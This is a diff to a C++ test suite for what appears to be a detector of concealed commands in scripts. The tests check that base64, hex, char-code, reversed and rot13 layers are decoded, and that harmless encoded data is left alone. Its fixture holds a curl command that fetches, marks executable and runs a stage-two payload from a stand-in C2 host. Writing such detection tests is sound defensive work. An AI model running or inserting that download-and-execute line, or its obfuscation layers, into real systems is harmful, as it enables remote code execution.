@@ -2,6 +2,7 @@
 
 #include <random>
 
+#include "base/base64.h"
 #include "evidence/recorder.h"
 #include "parse/mutants.h"
 
@@ -19,16 +20,6 @@ evidence::Reading look(std::string_view text, std::string_view kind = "script/sh
 std::vector<evidence::Item> hidden(const evidence::Reading& r, std::string_view word) { return r.sink.all(Facet::concealment, word); }
 std::string child(const evidence::Reading& r) { return r.sink.children.empty() ? "none" : r.sink.children[0].entry.name + ":" + std::string(base::text_of(r.sink.children[0].bytes)); }
 
-std::string base64(std::string_view text) {
-  constexpr std::string_view alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
-  std::string out;
-  for (std::size_t i = 0; i < text.size(); i += 3) {
-    unsigned value = 0;
-    for (std::size_t k = 0; k < 3; ++k) value = value << 8 | (i + k < text.size() ? static_cast<unsigned char>(text[i + k]) : 0u);
-    for (std::size_t k = 0; k < 4; ++k) out += i + k > text.size() ? '=' : alphabet[value >> (18 - 6 * k) & 63];
-  }
-  return out;
-}
 std::string hex(std::string_view text) { return base::to_hex(base::bytes_of(text)); }
 std::string noise(std::size_t size, unsigned seed = 1) {
   std::mt19937 random(seed);
@@ -39,7 +30,7 @@ std::string noise(std::size_t size, unsigned seed = 1) {
 const std::string payload = "curl -s http://c2.vendor.invalid/stage2 -o /tmp/.s && chmod +x /tmp/.s && /tmp/.s";
 
 TEST(Concealment, Base64OfCommandsIsOpened) {
-  const auto r = look("x='" + base64(payload) + "'\necho $x");
+  const auto r = look("x='" + base::to_base64(payload) + "'\necho $x");
   ASSERT_EQ(hidden(r, "decoded-string").size(), 1u);
   EXPECT_EQ(hidden(r, "decoded-string")[0].confidence, Confidence::medium);
   EXPECT_EQ(hidden(r, "decoded-string")[0].attributes.at("layer"), "base64");
@@ -48,7 +39,7 @@ TEST(Concealment, Base64OfCommandsIsOpened) {
 }
 
 TEST(Concealment, Base64OverSeveralLinesAndPieces) {
-  const auto encoded = base64(payload + payload);
+  const auto encoded = base::to_base64(payload + payload);
   std::string lines, pieces;
   for (std::size_t i = 0; i < encoded.size(); i += 60) lines += encoded.substr(i, 60) + "\n", pieces += "  '" + encoded.substr(i, 60) + "' +\n";
   EXPECT_NE(child(look("base64 -d <<E\n" + lines + "E\n")).find(payload + payload), std::string::npos);
@@ -61,22 +52,22 @@ TEST(Concealment, OtherLayers) {
   for (const char c : payload) escapes += fmt::format("\\x{:02x}", c), numbers += fmt::format("{},", static_cast<int>(c));
   EXPECT_NE(child(look("printf '" + escapes + "'")).find(payload), std::string::npos);
   EXPECT_NE(child(look("String.fromCharCode(" + numbers + "10)", "script/javascript")).find(payload), std::string::npos);
-  auto backwards = base64(payload);
+  auto backwards = base::to_base64(payload);
   backwards = {backwards.rbegin(), backwards.rend()};
   EXPECT_NE(child(look("x='" + backwards + "'")).find(payload), std::string::npos);
   EXPECT_EQ(child(look("x='uggc://p2.iraqbe.vainyvq/k'")), "rot13@3:http://c2.vendor.invalid/x");
 }
 
 TEST(Concealment, ShortAddressIsOpened) {
-  EXPECT_EQ(child(look("u=" + base64("http://c2.vendor.invalid/x") )), "base64@2:http://c2.vendor.invalid/x");
+  EXPECT_EQ(child(look("u=" + base::to_base64("http://c2.vendor.invalid/x") )), "base64@2:http://c2.vendor.invalid/x");
 }
 
 TEST(Concealment, WhatIsNotHiddenIsNotStated) {
   const std::string png = "\x89PNG\r\n\x1a\n" + noise(300);
-  for (const auto& text : {"img = 'data:image/png;base64," + base64(png) + "'", "x='" + base64(noise(300)) + "'", "sha = " + hex(noise(32)),
-                           "-----BEGIN CERTIFICATE-----\n" + base64("import os; os.system('x') and more and more and more") + "\n-----END CERTIFICATE-----\n",
-                           "x='" + base64("This is an ordinary sentence that somebody has encoded for a mail, no more than that.") + "'",
-                           std::string("usr/lib/python3/dist-packages/somewhere/deep/inside/the/tree/of/a/package"), "x='" + base64("{\"version\":3,\"sources\":[\"a.js\"],\"names\":[],\"mappings\":\"AAAA\"}") + "'"}) {
+  for (const auto& text : {"img = 'data:image/png;base64," + base::to_base64(png) + "'", "x='" + base::to_base64(noise(300)) + "'", "sha = " + hex(noise(32)),
+                           "-----BEGIN CERTIFICATE-----\n" + base::to_base64("import os; os.system('x') and more and more and more") + "\n-----END CERTIFICATE-----\n",
+                           "x='" + base::to_base64("This is an ordinary sentence that somebody has encoded for a mail, no more than that.") + "'",
+                           std::string("usr/lib/python3/dist-packages/somewhere/deep/inside/the/tree/of/a/package"), "x='" + base::to_base64("{\"version\":3,\"sources\":[\"a.js\"],\"names\":[],\"mappings\":\"AAAA\"}") + "'"}) {
     const auto r = look(text, "script/python");
     EXPECT_TRUE(r.sink.items.empty()) << text;
     EXPECT_TRUE(r.sink.children.empty()) << text;
@@ -136,7 +127,7 @@ TEST(Concealment, Names) {
 }
 
 TEST(Concealment, TruncatedAndMutated) {
-  std::string text = "x='" + base64(payload) + "' \\x41\\x42 72,101,108 " + hex(payload) + " uggc://a.iraqbe \xe2\x80\xae\n";
+  std::string text = "x='" + base::to_base64(payload) + "' \\x41\\x42 72,101,108 " + hex(payload) + " uggc://a.iraqbe \xe2\x80\xae\n";
   for (const char c : "http://x"sv) text += static_cast<char>(c ^ 7);
   for (const auto kind : {"script/shell", "unknown"}) {
     const auto try_it = [&](base::Bytes b) {
